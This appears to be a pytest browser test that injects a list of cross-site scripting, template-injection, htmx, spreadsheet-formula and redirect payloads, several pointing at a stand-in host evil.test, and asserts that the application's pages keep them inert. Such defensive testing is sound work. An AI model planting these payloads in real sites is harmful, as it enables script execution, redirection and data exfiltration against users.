"""Text from outside, wherever it comes in, in the agent's browser: nothing runs, nothing is fetched, no policy is broken."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from tests.browser.installation import Installation
from tests.browser.visitor import Visitor

PAYLOADS = Path(__file__).resolve().parents[2] / "../shared/corpora/xss/payloads.json"
OWN = (
    "<script>window.ran = 1</script>",
    "<img src=x onerror=window.ran=1>",
    "\"><svg onload='window.ran=1'>",
    "javascript:window.ran=1//https://evil.test",
    "{{ constructor.constructor('window.ran=1')() }}",
    "{% debug %}",
    "</textarea></title></style><script>window.ran=1</script>",
    "' hx-get='/x' hx-trigger='load' data-x='",
    '<div hx-on:click="window.ran=1" hx-trigger="load" hx-get="//evil.test">',
    '=HYPERLINK("https://evil.test")',
    "\u202egnp.exe",
    "<a href='data:text/html,<script>window.ran=1</script>'>x</a>",
    'https://evil.test/" onmouseover="window.ran=1',
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<form action=https://evil.test><button>x</button></form>",
)
ACTIVE = (
    "main script:not([src]), main iframe, main object, main embed, main base, main meta, main [onerror], main [onload]"
)


@pytest.fixture(scope="module")
def addresses(installation: Installation) -> list[str]:
    payloads = list(OWN)
    if PAYLOADS.exists():
        payloads += [one["payload"] for one in json.loads(PAYLOADS.read_text())]
    found: list[str] = json.loads(installation.play("tests.browser.hostile_stage", given=json.dumps(payloads)))
    return found


def test_whatever_comes_from_outside_is_inert_on_every_page_that_shows_it(
    visit: Callable[..., Visitor], addresses: list[str]
) -> None:
    # The owner of neither, but of all rights at the desk and on the hotline together.
    watched: list[str] = []
    for name in ("agent", "it"):
        reader = visit(name)
        reader.page.on("request", lambda request: watched.append(request.url))
        reader.page.on("dialog", lambda dialog: (watched.append(f"dialog: {dialog.message}"), dialog.dismiss()))
        seen = 0
        for address in addresses:
            response = reader.page.goto(address)
            assert response is not None
            if response.status in {403, 404}:
                continue
            assert response.status == 200, f"{address} answered {response.status}"
            seen += 1
            reader.page.wait_for_timeout(400)
            for handle in reader.page.query_selector_all("main a, main button, main [tabindex]")[:80]:
                handle.evaluate(
                    "one => { one.focus(); one.dispatchEvent(new MouseEvent('mouseover', {bubbles: true})) }"
                )
            assert reader.page.evaluate("window.ran") is None, address
            assert reader.page.locator(ACTIVE).count() == 0, address
            hostile = reader.page.eval_on_selector_all(
                "main a",
                "all => all.map(one => one.protocol).filter(one => !['http:', 'https:', 'mailto:', 'tel:'].includes(one))",
            )
            assert hostile == [], address
            assert urlsplit(reader.page.url).path == urlsplit(address).path, "the page led elsewhere by itself"
        assert seen >= 4, f"{name} saw too few of the pages to tell"
        own = reader.installation.url
        assert all(one.startswith((own, "data:", "blob:")) for one in watched), [
            one for one in watched if not one.startswith((own, "data:", "blob:"))
        ]
